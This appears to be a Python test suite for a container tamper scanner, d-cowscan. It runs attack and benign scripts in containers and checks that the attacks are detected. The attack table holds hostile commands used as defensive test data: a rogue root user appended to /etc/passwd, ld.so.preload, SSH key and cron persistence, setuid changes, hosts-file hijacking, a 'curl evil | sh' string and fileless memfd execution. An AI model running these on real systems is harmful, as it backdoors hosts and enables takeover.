"""Attacks by root in a container, and benign changes: d-cowscan must distinguish them."""

import base64
import ctypes
import json
import os
import shutil
import socket
import subprocess
import sys
import traceback
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any, NamedTuple

from tests.engines.world import BASE, FORCED_REMOVAL, LABEL, Record, World, wait_for, write

IMAGE = f"""FROM {BASE}
LABEL {LABEL}
RUN mkdir -p /app/conf /app/data/deep/deeper && echo one >/app/conf/one && echo two >/app/conf/two \
 && echo three >/app/data/deep/deeper/three && ln -s one /app/conf/link && chmod 755 /app/conf/one \
 && touch -d 2024-01-01 /app/conf/* && cp /bin/sh /app/tool && mkdir -p /usr/share/doc/tool \
 && for i in a b c d; do echo $i >/usr/share/doc/tool/$i; done
"""


class Attack(NamedTuple):
    """What is done: a script inside as root, or something outside, with the container's root and a process of it.

    `found` has paths that have to be among the findings, `kind` limits that to findings of one kind. `options` are the
    engine's, and `needs` is what an engine has to let happen. `left` is what a stopped container still has of it.
    """

    script: str
    found: tuple[str, ...]
    outside: Callable[[Path, int], None] | None = None
    options: tuple[str, ...] = ()
    needs: str = ""
    kind: str = ""
    left: tuple[str, ...] | None = None

    @property
    def found_after_stop(self) -> tuple[str, ...]:
        """The expected findings after its stop: no process, and no mount."""
        if self.left is not None:
            return self.left
        return () if self.kind else self.found


class Benign(NamedTuple):
    """A benign script, in a container with options of the engine; `needs` names a feature of the engine."""

    script: str = "true"
    options: tuple[str, ...] = ()
    needs: str = ""


def extended(name: str, value: bytes, path: str = "app/tool") -> Callable[[Path, int], None]:
    """Return a script that sets an extended attribute."""
    return lambda root, _: os.setxattr(root / path, name, value)


def outside(user: int, pid: int) -> int:
    """Return the host's number of a user in the container of a process."""
    rows = [map(int, row.split()) for row in Path(f"/proc/{pid}/uid_map").read_text(encoding="ascii").splitlines()]
    return next(out + user - first for first, out, size in rows if 0 <= user - first < size)


def with_acl(name: str, path: str) -> Callable[[Path, int], None]:
    """Return a script that grants rights to the container's user 33, by its id on the host."""

    def give(root: Path, pid: int) -> None:
        is_ours = Path(f"/proc/{pid}/ns/user").readlink() == Path("/proc/self/ns/user").readlink()
        user = 33 if is_ours else outside(33, pid)
        os.setxattr(root / path, name, WITH_ACL[:16] + user.to_bytes(4, "little") + WITH_ACL[20:])

    return give


def appended(path: str, text: str) -> Callable[[Path, int], None]:
    """Return a script that appends to a file."""

    def append(root: Path, _: int) -> None:
        with (root / path).open("a") as file:
            file.write(text)

    return append


def as_root_of(pid: int, act: Callable[[], None]) -> None:
    """Run as root in the user namespace of a process: no other user may access a user's FUSE mount."""
    child = os.fork()
    if not child:
        try:
            with Path(f"/proc/{pid}/ns/user").open("rb") as namespace:
                entered = ctypes.CDLL(None, use_errno=True).setns(namespace.fileno(), 0)
            assert entered == 0, os.strerror(ctypes.get_errno())
            os.setgroups([])
            os.setgid(0)
            os.setuid(0)
            act()
        except BaseException:  # noqa: BLE001 - it is reported, and the child does not go on as the tests
            traceback.print_exc()
            os._exit(1)
        os._exit(0)
    _, status = os.waitpid(child, 0)
    assert status == 0, f"what is done to process {pid} from outside has failed"


def bound(root: Path, _: int) -> None:
    """Create a socket, as the container's root: the host's root has no id in the file system that a user mounts."""
    owner, before = (root / "app").stat(), Path.cwd()
    os.chdir(root / "app")  # the name of a socket cannot be long
    try:
        os.setegid(owner.st_gid)
        os.seteuid(owner.st_uid)
        with socket.socket(socket.AF_UNIX) as listening:
            listening.bind("socket")
    finally:
        os.seteuid(0)
        os.setegid(0)
        with suppress(PermissionError):  # the child in a user's namespace may not, and needs not
            os.chdir(before)


def in_memory(root: Path, pid: int) -> None:
    """Run a program without a file, in the cgroups of a container, and as its root."""
    program = """if True:
        import ctypes, os, sys
        payload, namespace, *groups = sys.argv[1:]
        for group in groups:
            open(f"{group}/cgroup.procs", "w").write(str(os.getpid()))
        if namespace and ctypes.CDLL(None).setns(os.open(namespace, os.O_RDONLY), 0) == 0:
            os.setgid(0)
            os.setuid(0)
        memory = os.memfd_create("payload")
        os.write(memory, open(payload, "rb").read())
        os.execve(memory, ["sleep", "1000"], {})
    """
    is_users = Path(f"/proc/{pid}/ns/user").readlink() != Path("/proc/self/ns/user").readlink()
    words = (shutil.which("sleep") or str(root / "usr/bin/busybox"), f"/proc/{pid}/ns/user" if is_users else "")
    child = subprocess.Popen((sys.executable, "-c", program, *words, *map(str, groups_of_process(pid))))
    wait_for(lambda: str(Path(f"/proc/{child.pid}/exe").readlink()).startswith("/memfd:"), "a program in memory")
    CHILDREN.append(child)


def groups_of_process(pid: int) -> list[Path]:
    """Return the directories of a container's cgroups: in v1, in v2, or in both."""
    rows = Path(f"/proc/{pid}/cgroup").read_text(encoding="ascii").splitlines()
    paths = {controllers: path for _, controllers, path in (row.split(":", 2) for row in rows)}
    found = []
    for row in Path("/proc/self/mountinfo").read_text(encoding="utf-8").splitlines():
        before, _, after = row.partition(" - ")
        kind, _, options = after.split(" ", 2)
        names = {""} if kind == "cgroup2" else set(options.split(",")) if kind == "cgroup" else set()
        path = next((path for controllers, path in paths.items() if names & set(controllers.split(","))), "/")
        place = Path(before.split(" ")[4] + path)
        if path != "/" and place.is_dir():
            found.append(place)
    return found


CHILDREN: list[subprocess.Popen[bytes]] = []


def end_children() -> None:
    """Kill processes that attacks and tests have started on the host."""
    while CHILDREN:
        child = CHILDREN.pop()
        child.kill()
        child.wait()


CAPABLE = bytes.fromhex("0100000200000000000000000000000000000000")
WITH_ACL = bytes.fromhex("0200000001000700ffffffff020007002100000004000500ffffffff10000700ffffffff20000500ffffffff")
ADMIN = ("--cap-add", "SYS_ADMIN", "--security-opt", "apparmor=unconfined")
SAME_TIME = "touch -r /app/tool /dev/shm/t; {}; touch -r /dev/shm/t /app/tool"

ATTACKS: dict[str, Attack] = {
    "a new file": Attack("echo x >/app/new", ("/app/new",)),
    "a new program": Attack("cp /bin/sh /app/nc", ("/app/nc",)),
    "an edited program, size and time kept": Attack(
        SAME_TIME.format("printf X | dd of=/app/tool bs=1 seek=99 conv=notrunc"),
        ("/app/tool",),
    ),
    "a replaced file, size and time kept": Attack(
        "cd /app/conf; cp -p one n; echo eno >n; touch -r one n; mv n one",
        ("/app/conf/one",),
    ),
    "appended": Attack("echo x >>/app/conf/two", ("/app/conf/two",)),
    "emptied": Attack(": >/app/conf/two", ("/app/conf/two",)),
    "setuid": Attack("chmod 4755 /app/tool", ("/app/tool",)),
    "setgid": Attack("chmod 2755 /app/tool", ("/app/tool",)),
    "executable": Attack("chmod +x /app/conf/two", ("/app/conf/two",)),
    "another owner": Attack("chown 33:33 /app/conf/two", ("/app/conf/two",)),
    "a directory for all": Attack("chmod 777 /app/conf", ("/app/conf",)),
    "a directory of another": Attack("chown 33 /app/conf", ("/app/conf",)),
    "deleted": Attack("rm /app/conf/two", ("/app/conf/two",)),
    "a directory deleted": Attack("rm -r /app/data", ("/app/data",)),
    "a directory made anew": Attack("rm -r /app/data; mkdir /app/data", ("/app/data/deep",)),
    "a directory made anew, with a file": Attack(
        "rm -r /app/data; mkdir -p /app/data; touch /app/data/x", ("/app/data/deep", "/app/data/x")
    ),
    "a file in a directory's place": Attack("rm -r /app/data; echo x >/app/data", ("/app/data", "/app/data/deep")),
    "a directory in a file's place": Attack(
        "rm /app/conf/two; mkdir /app/conf/two; touch /app/conf/two/x", ("/app/conf/two", "/app/conf/two/x")
    ),
    "a link in a file's place": Attack("rm /app/conf/two; ln -s /etc/shadow /app/conf/two", ("/app/conf/two",)),
    "a link in a directory's place": Attack("rm -r /app/data; ln -s /etc /app/data", ("/app/data", "/app/data/deep")),
    "a file in a link's place": Attack("rm /app/conf/link; echo x >/app/conf/link", ("/app/conf/link",)),
    "a link that leads elsewhere": Attack("ln -sfn two /app/conf/link", ("/app/conf/link",)),
    "a new link": Attack("ln -s /etc/passwd /app/l", ("/app/l",)),
    "a new link to a directory": Attack("ln -s / /app/l", ("/app/l",)),
    "a new hard link": Attack("ln /app/conf/two /app/hard", ("/app/hard",)),
    "an empty directory": Attack("mkdir /app/empty", ("/app/empty",)),
    "a pipe": Attack("mkfifo /app/pipe", ("/app/pipe",)),
    "a device": Attack("mknod /app/null c 1 3", ("/app/null",), needs="devices"),
    "a hidden name": Attack("echo x >/app/.hidden", ("/app/.hidden",)),
    "a name like a whiteout": Attack("echo x >/app/.wh.x", ("/app/.wh.x",), needs="names of marks"),
    "a name with a line break": Attack("echo x >'/app/a\nall ok'", ("/app/a\nall ok",)),
    "a name with an escape": Attack("echo x >\"$(printf '/app/\\033[2J')\"", ("/app/\x1b[2J",)),
    "a name that is no text": Attack("echo x >\"$(printf '/app/\\377')\"", ("/app/\udcff",)),
    "renamed": Attack("mv /app/conf/two /app/conf/other", ("/app/conf/other", "/app/conf/two")),
    "swapped": Attack(
        "mv /app/conf/one /t; mv /app/conf/two /app/conf/one; mv /t /app/conf/two", ("/app/conf/one", "/app/conf/two")
    ),
    "deep": Attack("mkdir -p /app/a/b/c/d/e; echo x >/app/a/b/c/d/e/f", ("/app/a/b/c/d/e/f",)),
    "past the longest path": Attack(
        "cd /app; n=$(printf %0200d 0); for i in $(seq 20); do mkdir $n; cd $n; done; echo x >payload",
        (f"/app/{'/'.join(['0' * 200] * 20)}/payload",),
    ),
    "in an executable's directory": Attack("echo x >/usr/bin/x", ("/usr/bin/x",)),
    "users": Attack("echo evil::0:0::/:/bin/sh >>/etc/passwd", ("/etc/passwd",)),
    "the root directory": Attack("echo x >/x", ("/x",)),
    "in /tmp": Attack("mkdir -p /tmp; echo x >/tmp/x", ("/tmp/x",)),  # noqa: S108 - inside
    "in /run": Attack("mkdir -p /run/y; echo x >/run/y/x", ("/run/y/x",)),
    "a disk of the host's": Attack("mknod /app/disk b 254 0", ("/app/disk",), needs="devices"),
    "a name like an opaque mark": Attack(
        "mkdir /app/o; echo x >/app/o/.wh..wh..opq", ("/app/o/.wh..wh..opq",), needs="names of marks"
    ),
    "a name that a rule of substrings ignores": Attack(
        "mkdir -p /root/x:; echo x >'/root/x:/var log y'", ("/root/x:/var log y",)
    ),
    "a name of spaces": Attack("echo x >'/app/   '", ("/app/   ",)),
    "a name of 255 bytes": Attack("echo x >/app/$(printf %0255d 0)", (f"/app/{'0' * 255}",), needs="names of marks"),
    "hundreds of levels deep": Attack(
        "cd /app; for i in $(seq 400); do mkdir d; cd d; done; echo x >payload", ("/app" + "/d" * 400 + "/payload",)
    ),
    "a file of a terabyte": Attack(
        "echo x >/app/huge", ("/app/huge",), lambda root, _: os.truncate(root / "app/huge", 2**40)
    ),
    "an empty file": Attack(": >/app/empty", ("/app/empty",)),
    "a file that nobody may read": Attack("echo x >/app/x; chmod 0 /app/x", ("/app/x",)),
    "times long ago": Attack("cp /bin/sh /app/x; touch -d 1970-01-01 /app/x", ("/app/x",)),
    "a payload in a link's target": Attack("ln -s 'curl evil | sh' /app/l", ("/app/l",)),
    "a link to itself": Attack("ln -s l /app/l", ("/app/l",)),
    "a sticky directory": Attack("chmod 1777 /app/data", ("/app/data",)),
    "another group": Attack("chown 0:33 /app/tool", ("/app/tool",)),
    "a pipe in a file's place": Attack("rm /app/conf/two; mkfifo /app/conf/two", ("/app/conf/two",)),
    "a directory renamed": Attack("mv /app/data /app/atad", ("/app/data", "/app/atad/deep/deeper/three")),
    "a file deleted in a directory made anew": Attack(
        "mv /app/conf /c; mkdir /app/conf; cp -p /c/one /app/conf/one; rm -r /c", ("/app/conf/two",)
    ),
    "a key to log in with": Attack(
        "mkdir -p /root/.ssh; echo ssh-rsa >/root/.ssh/authorized_keys", ("/root/.ssh/authorized_keys",)
    ),
    "a library for all programs": Attack("mkdir -p /etc; echo /x.so >/etc/ld.so.preload", ("/etc/ld.so.preload",)),
    "a table of jobs": Attack(
        "mkdir -p /var/spool/cron; echo '* * * * * x' >/var/spool/cron/root", ("/var/spool/cron/root",)
    ),
    "edited through a hard link": Attack("ln /app/conf/two /h; echo x >>/h; rm /h", ("/app/conf/two",)),
    "edited, size and time kept, owner too": Attack(
        SAME_TIME.format("printf Y | dd of=/app/tool bs=1 seek=7 conv=notrunc; chown 0:0 /app/tool"), ("/app/tool",)
    ),
    "its last byte edited, size and time kept": Attack(
        SAME_TIME.format("printf Z | dd of=/app/tool bs=1 seek=$(($(stat -c %s /app/tool) - 1)) conv=notrunc"),
        ("/app/tool",),
    ),
    "shortened and lengthened again": Attack(
        "truncate -s 1 /app/conf/two; truncate -s 4 /app/conf/two", ("/app/conf/two",)
    ),
    "a user's attribute": Attack("true", ("/app/tool",), extended("user.payload", b"x")),
    "a directory's attribute": Attack("true", ("/app/conf",), extended("user.payload", b"x", "app/conf")),
    "a capability": Attack("true", ("/app/tool",), extended("security.capability", CAPABLE), needs="capabilities"),
    "rights for one more user": Attack("true", ("/app/tool",), with_acl("system.posix_acl_access", "app/tool")),
    "rights for all that will be in a directory": Attack(
        "true", ("/app/conf",), with_acl("system.posix_acl_default", "app/conf")
    ),
    "a forged mark of the overlay": Attack(
        "echo x >/app/x", ("/app/x",), extended("trusted.overlay.opaque", b"y", "app/x"), needs="trusted attributes"
    ),
    "a socket": Attack("true", ("/app/socket",), bound),
    "a program that is deleted and runs": Attack(
        "cp /usr/bin/busybox /app/sleep; /app/sleep 1000 & sleep 1; rm /app/sleep", ("/app/sleep",), kind="process"
    ),
    "a program that runs from a volume": Attack(
        "cp /usr/bin/busybox /volume/sleep; /volume/sleep 1000 & sleep 1", ("/volume/sleep",), kind="process"
    ),
    "a program that runs from a tmpfs": Attack(
        "cp /usr/bin/busybox /passing/sleep; /passing/sleep 1000 & sleep 1",
        ("/passing/sleep",),
        options=("--tmpfs", "/passing:exec"),
        kind="process",
    ),
    "a new program that runs": Attack(
        "cp /usr/bin/busybox /app/sleep; /app/sleep 1000 & sleep 1", ("/app/sleep",), kind="process"
    ),
    "a program by the name of an engine's init": Attack(
        "cp /usr/bin/busybox /run/podman-init; exec -a sleep /run/podman-init 1000 & sleep 1",
        ("/run/podman-init",),
        options=("--tmpfs", "/run:exec"),
        kind="process",
    ),
    "a program in memory alone": Attack("true", ("/memfd:payload",), in_memory, needs="control groups", kind="process"),
    "something mounted over a directory": Attack(
        "echo x >/app/conf/evil; mount -t tmpfs none /app/conf",
        ("/app/conf", "/app/conf/evil"),
        options=ADMIN,
        needs="mounts",
        left=("/app/conf/evil",),
    ),
    "a directory mounted elsewhere": Attack(
        "mkdir /app/m; mount -o bind /app/conf /app/m", ("/app/m",), options=ADMIN, needs="mounts", kind="mount"
    ),
    "content in a file that the engine mounts": Attack(
        "umount /etc/hosts; echo 6.6.6.6 bank >/etc/hosts", ("/etc/hosts",), options=ADMIN, needs="mounts"
    ),
    "a program where the engine mounts a file": Attack(
        "umount /etc/hostname; cp /bin/sh /etc/hostname; chmod 755 /etc/hostname",
        ("/etc/hostname",),
        options=ADMIN,
        needs="mounts",
    ),
    "rights for an empty file that the engine mounts": Attack(
        "umount /etc/hostname; chmod 4755 /etc/hostname", ("/etc/hostname",), options=ADMIN, needs="mounts"
    ),
    "another owner of an empty file that the engine mounts": Attack(
        "umount /etc/hostname; chown 33 /etc/hostname", ("/etc/hostname",), options=ADMIN, needs="mounts"
    ),
    "an attribute of an empty file that the engine mounts": Attack(
        "umount /etc/hostname",
        ("/etc/hostname",),
        extended("user.payload", b"x", "etc/hostname"),
        options=ADMIN,
        needs="mounts",
    ),
    "a second name of an empty file that the engine mounts": Attack(
        "umount /etc/hostname; ln /etc/hostname /app/empty", ("/app/empty",), options=ADMIN, needs="mounts"
    ),
    "a link where the engine mounts a file": Attack(
        "umount /etc/hosts; rm /etc/hosts; ln -s /etc/shadow /etc/hosts",
        ("/etc/hosts",),
        options=ADMIN,
        needs="mounts",
    ),
    "a pipe where the engine mounts a file": Attack(
        "umount /etc/hosts; rm /etc/hosts; mkfifo /etc/hosts", ("/etc/hosts",), options=ADMIN, needs="mounts"
    ),
    "content in the mark of an engine": Attack(
        "umount /run/.containerenv; mkdir -p /run; echo x >/run/.containerenv",
        ("/run/.containerenv",),
        options=ADMIN,
        needs="mounts",
    ),
    "another table of mounts": Attack("rm -f /etc/mtab; ln -s /app/x /etc/mtab", ("/etc/mtab",)),
    "a mount point that all may write to": Attack(
        "umount /mnt/one/two; chmod 1777 /mnt/one/two", ("/mnt/one/two",), options=ADMIN, needs="mounts"
    ),
    "a file below a mount point": Attack(
        "umount /mnt/one/two; echo x >/mnt/one/two/payload", ("/mnt/one/two/payload",), options=ADMIN, needs="mounts"
    ),
    "a file in a mount point's place": Attack(
        "umount /mnt/one/two; rmdir /mnt/one/two; echo x >/mnt/one/two",
        ("/mnt/one/two",),
        options=ADMIN,
        needs="mounts",
    ),
    "a directory above a mount that all may write to": Attack("chmod 1777 /mnt/one", ("/mnt/one",)),
    "a directory above a mount that is setgid": Attack("chmod 2755 /mnt/one", ("/mnt/one",)),
    "a directory above a mount of another": Attack("chown 33 /mnt/one", ("/mnt/one",)),
    "an attribute of a directory above a mount": Attack(
        "true", ("/mnt/one",), extended("user.payload", b"x", "mnt/one")
    ),
    "a file beside a mount": Attack("echo x >/mnt/one/payload", ("/mnt/one/payload",)),
    "one more user beside the container's": Attack(
        "true",
        ("/etc/passwd",),
        appended("etc/passwd", "evil::0:0::/:/bin/sh\n"),
        options=("--user", "1234:55"),
    ),
    "one more group beside the container's": Attack(
        "true", ("/etc/group",), appended("etc/group", "evil:x:0:1234\n"), options=("--user", "1234:55")
    ),
    "a file in the engine's working directory": Attack(
        "echo x >/cwd/deep/payload",
        ("/cwd/deep/payload",),
        options=("-w", "/cwd/deep"),
        needs="working directories",
    ),
}


_SCRIPTS: dict[str, str] = {
    "nothing": "true",
    "read": "cat /app/conf/* >/dev/null",
    "times alone": "touch /app/conf/two",
    "times of a directory": "touch /app/conf",
    "copied up, unchanged": ": >>/app/conf/two",
    "the same mode": "chmod 755 /app/conf/one",
    "the same owner": "chown 0:0 /app/conf/two",
    "came and went": "echo x >/app/x; rm /app/x",
    "edited and restored": "cp /app/conf/two /dev/shm/t; echo x >>/app/conf/two; cat /dev/shm/t >/app/conf/two",
    "a directory made anew as it was": "cp -rp /app/data /dev/shm/d; rm -r /app/data; cp -rp /dev/shm/d /app/data",
    "renamed and back": "mv /app/conf/two /app/conf/x; mv /app/conf/x /app/conf/two",
    "a directory came and went": "mkdir /app/x; rmdir /app/x",
    "a link came and went": "ln /app/conf/two /app/x; rm /app/x",
    "a mode and back": "chmod 700 /app/conf/two; chmod 644 /app/conf/two",
    "a directory's mode and back": "chmod 700 /app/conf; chmod 755 /app/conf",
    "an owner and back": "chown 33 /app/conf/two; chown 0 /app/conf/two",
    "swapped and back": "cd /app/conf; for i in 1 2; do mv one /t; mv two one; mv /t two; done",
    "another target and back": "ln -sfn two /app/conf/link; ln -sfn one /app/conf/link",
    "emptied and filled again": "cp -p /app/conf/two /dev/shm/t; : >/app/conf/two; cat /dev/shm/t >/app/conf/two",
    "deleted and put back": "cp -p /app/conf/two /dev/shm/t; rm /app/conf/two; cp -p /dev/shm/t /app/conf/two",
    "a program of the image's runs": "cp /app/tool /dev/shm/t; /usr/bin/busybox sleep 1000 &",
    "in a volume": "echo x >/volume/x; mkdir /volume/deep/er",
    "in a tmpfs": "cp /bin/sh /dev/shm/x",
}


BENIGN: dict[str, Benign] = {
    **{name: Benign(script) for name, script in _SCRIPTS.items()},
    "a user that the image does not have": Benign(options=("--user", "1234:55")),
    "a root that is read-only": Benign(options=("--read-only",)),
    "a tmpfs of a mount": Benign(options=("--mount", "type=tmpfs,destination=/m/tmp")),
    "an anonymous volume": Benign(options=("-v", "/anonymous/volume")),
    "a file of the host's": Benign(options=("-v", "/etc/passwd:/srv/conf/file:ro")),
    "a file of the host's over one of the image's": Benign(options=("-v", "/etc/passwd:/app/conf/two:ro")),
    "a working directory that the image does not have": Benign(
        options=("-w", "/cwd/deep"), needs="working directories"
    ),
    "an init": Benign(options=("--init",), needs="init"),
    "a time zone": Benign(options=("--tz", "local"), needs="podman"),
    "systemd in it": Benign(options=("--systemd", "always"), needs="podman"),
}


def expecting(engine: World, name: str, *rules: str) -> Path:
    """Return a rules file by which containers without a service are expected, as most of these are."""
    ours = "path: /dyt-*\n  containers: dyt-*\n  what: undeclared\n  kinds: container\n  reason: tests\n"
    write(engine.root / name, "".join(f"- {rule}\n" for rule in (ours, *rules)))
    return engine.root / name


def scanned(engine: World, *words: str, expect: int | None = None) -> dict[str, Any]:
    """Return the findings of d-cowscan for each container, by name."""
    rules = ("-i", expecting(engine, "undeclared.yaml"))
    told = json.loads(engine.run("d-cowscan", "--json", *rules, *words, expect=expect).stdout)
    return {one["container"]: one for one in told["containers"]}


def paths(told: dict[str, Any], kind: str = "") -> set[str]:
    """Return the exact paths of the findings, or of those of one kind."""
    return {
        os.fsdecode(base64.b64decode(finding["path_base64"])) if "path_base64" in finding else finding["path"]
        for finding in told["findings"]
        if kind in {"", finding["kind"]}
    }


def named(engine: World, name: str) -> str:
    """Return a container name that no other engine uses: alerts are stored by name, and engines run concurrently."""
    return f"dyt-cow-{engine.engine}-{name}"


@contextmanager
def attackable(engine: World) -> Iterator[str]:
    """Create such an image."""
    directory = engine.root / "cowscan-image"
    write(directory / "Dockerfile", IMAGE)
    engine.call("build", "-t", "dytest/dyt-cow:latest", str(directory))
    try:
        yield "dytest/dyt-cow:latest"
    finally:
        wait_for(lambda: _is_removed(engine), "the end of the corpus", 60)


def _is_removed(engine: World) -> bool:
    """Remove all containers of the corpus; retry if a mount elsewhere keeps one busy."""
    if left := engine.containers("dyt-cow"):
        engine.call(*FORCED_REMOVAL[engine.engine], *left, expect=None)
    return not engine.containers("dyt-cow")


def attacked(engine: World, image: str, name: str, script: str, *options: str) -> None:
    """Run a container in which a script has run, and that keeps running."""
    volume = engine.root / f"volume-{name}"
    if volume.exists():  # of a container that had this name before: what it wrote may be another user's
        shutil.rmtree(volume)
    for place in (volume, volume / "deep"):
        place.mkdir()
        place.chmod(0o777)
    mounts = ("-v", f"{volume}:/volume", "-v", f"{volume}:/mnt/one/two")
    done = "touch /volume/done"
    engine.call(
        *("run", "-d", "--name", name, "--label", LABEL, "--network", "none", "--cap-add", "MKNOD", *mounts, *options),
        *(image, "sh", "-c", f"( {script}\n) >/volume/log 2>&1\n{done}\nsleep 1000"),
    )


def settled(engine: World, names: Iterable[str]) -> None:
    """Wait until all scripts have run."""
    for name in names:
        wait_for((engine.root / f"volume-{name}/done").exists, f"the end of {name}'s script", 60)


def told_by_diff(engine: World, name: str) -> set[str]:
    """Return the output of the engine's diff, without parent directories; empty if it fails."""
    argv = (engine.engine, "diff", name)
    done = subprocess.run(
        argv, env=engine.environment, capture_output=True, check=False
    )  # it may fail, and not in UTF-8
    told = [row.partition(" ")[::2] for row in done.stdout.decode("utf-8", "surrogateescape").splitlines()]
    above = {path for _, path in told}
    stubs = {"/mnt", "/mnt/one", "/mnt/one/two", "/volume", "/passing", "/run", "/run/.containerenv", "/dev", "/etc"}
    return {
        path
        for what, path in told
        if path not in stubs and not (what == "C" and any(other.startswith(f"{path}/") for other in above))
    }


def process_ids(engine: World, names: Iterable[str]) -> dict[str, int]:
    """Return the process id of each container, by its name."""
    told = engine.call("container", "inspect", "--format", "{{.Name}} {{.State.Pid}}", *names)
    return {name.removeprefix("/"): int(pid) for name, pid in (row.split() for row in told.splitlines())}


def told_by_walk(engine: World, name: str) -> set[str]:
    """Return the files that a plain walk of the upper directory finds."""
    upper = upper_of(engine, name)
    found = (os.path.join(place, file) for place, _, files in os.walk(upper) for file in files)  # noqa: PTH118
    return {path.removeprefix(upper) for path in found} - {"/run/.containerenv", "/etc/mtab"}


def upper_of(engine: World, name: str) -> str:
    """Return the upper directory of a running container, from the kernel, as not every image store reports it."""
    told = engine.inspect(name)
    for row in Path(f"/proc/{told['State']['Pid']}/mountinfo").read_text(encoding="utf-8").splitlines():
        before, _, after = row.partition(" - ")
        if before.split(" ")[4] == "/" and after.startswith("overlay "):
            return next(word for word in after.split(" ")[2].split(",") if word.startswith("upperdir=")).partition("=")[
                2
            ]
    return str(told["GraphDriver"]["Data"]["UpperDir"])  # mounted by a program of a user


UNWATCHED, TRIES = "neither frozen nor watched", 20


class Corpus:
    """A container for each attack that is possible on an engine, and for each benign script; each runs once."""

    def __init__(
        self, engine: World, image: str, lacking: Iterable[str] = (), *, options: tuple[str, ...] = ()
    ) -> None:
        self.engine = engine
        self.attacks = {name: one for name, one in ATTACKS.items() if one.needs not in lacking}
        self.benign = {name: one for name, one in BENIGN.items() if one.needs not in lacking}
        self.names = {name: named(engine, f"a{number}") for number, name in enumerate(self.attacks)}
        self.quiet = {name: named(engine, f"b{number}") for number, name in enumerate(self.benign)}
        wanted = [(self.names[name], one.script, one.options) for name, one in self.attacks.items()]
        wanted += [(self.quiet[name], one.script, one.options) for name, one in self.benign.items()]
        with ThreadPoolExecutor(4) as pool:
            list(pool.map(lambda one: attacked(engine, image, one[0], one[1], *options, *one[2]), wanted))
        settled(engine, [*self.names.values(), *self.quiet.values()])
        self.pids = process_ids(engine, (*self.names.values(), *self.quiet.values()))
        for name, one in self.attacks.items():
            if one.outside:
                self._do_outside(one.outside, self.pids[self.names[name]])

    def _do_outside(self, act: Callable[[Path, int], None], pid: int) -> None:
        root = Path(f"/proc/{pid}/root")
        if self.engine.is_users and act is not in_memory:
            as_root_of(pid, lambda: act(root, pid))
        else:
            act(root, pid)

    def stop(self) -> None:
        """Stop all of them."""
        end_children()
        self.engine.call("stop", "-t", "0", *self.names.values(), *self.quiet.values())

    def judge(self, what: str, record: Record, *words: str, unwatched: bool = False) -> None:
        """Scan, record the counts, and expect that all attacks are found and nothing benign is reported.

        `unwatched`: nothing can be frozen or watched, and the scan has to say so of each container.
        """
        is_stopped = "--all" in words
        told = scanned(self.engine, *words, expect=1)
        if not unwatched:
            self._scan_again(told, words)
        wanted = {name: one.found_after_stop if is_stopped else one.found for name, one in self.attacks.items()}
        wanted = {name: found for name, found in wanted.items() if found}
        found = {name: paths(told[self.names[name]], self.attacks[name].kind) for name in wanted}
        missed = {name: sorted(found[name]) for name in wanted if not set(wanted[name]) <= found[name]}
        alarms = {name: told[one]["findings"] for name, one in self.quiet.items() if told[one]["findings"]}
        counts = {
            "attacks": len(wanted),
            "found": len(wanted) - len(missed),
            "benign": len(self.benign),
            "alarms": len(alarms),
        }
        record("corpus", {"what": what, **counts})
        first, last = f"corpus: {describe(self.engine)} {what}", f"{len(alarms)} of {len(self.benign)} benign"
        record("figure", f"{first}: {counts['found']} of {len(wanted)} attacks, {last}")
        reasons = {name: [row["reason"] for row in one["incomplete"]] for name, one in told.items()}
        if unwatched:
            assert all(UNWATCHED in one[0] for one in reasons.values()), reasons
            reasons = {name: one[1:] for name, one in reasons.items()}
        incomplete = {name: one for name, one in reasons.items() if one}
        assert missed == {}, f"not found: {missed}\nincomplete: {incomplete}"
        assert alarms == {}, f"false alarms: {alarms}"
        assert incomplete == {}, f"incomplete: {incomplete}"

    def _scan_again(self, told: dict[str, Any], words: tuple[str, ...]) -> None:
        """Scan again the containers for which a user's scan was too slow: on a busy host it takes several tries."""
        for _ in range(TRIES):
            names = [name for name, one in told.items() if any(UNWATCHED in row["reason"] for row in one["incomplete"])]
            if not names:
                return
            told.update(scanned(self.engine, *words, *names))

    def compare(self, record: Record) -> None:
        """Record what others find: the engine's diff, and a walk of the upper directories."""
        for other, look in (("diff", told_by_diff), ("a walk with os.walk", told_by_walk)):
            seen = {name: look(self.engine, one) for name, one in self.names.items()}
            caught = [name for name, one in self.attacks.items() if one.kind == "" and set(one.found) <= seen[name]]
            loud = [name for name, one in self.quiet.items() if look(self.engine, one)]
            counts = (
                f"{len(caught)} of {len(self.attacks)} attacks found, {len(loud)} of {len(self.benign)} benign told"
            )
            record("figure", f"{self.engine.engine}, {other}: {counts}")
            assert len(caught) < len(self.attacks)


def describe(engine: World) -> str:
    """Return a description of the engine: version, store or runtime, and cgroup version."""
    version = 2 if Path("/sys/fs/cgroup/cgroup.controllers").exists() else 1
    if engine.engine == "docker":
        number, store = engine.call("info", "--format", "{{.ServerVersion}} {{.Driver}}").split()
        return f"docker {number} {store} cgroup v{version}"
    words = "{{.Version.Version}} {{.Store.GraphDriverName}} {{.Host.OCIRuntime.Name}}"
    return f"podman {engine.call('info', '--format', words).strip()} cgroup v{version}"


def lacking(engine: World) -> set[str]:
    """Return attacks that an engine prevents, and options that it lacks."""
    if engine.engine == "docker":
        return {"podman"}
    init = Path("/usr/libexec/podman/catatonit").exists() or shutil.which("catatonit")
    return {"devices", "working directories", *(() if init else ("init",))}
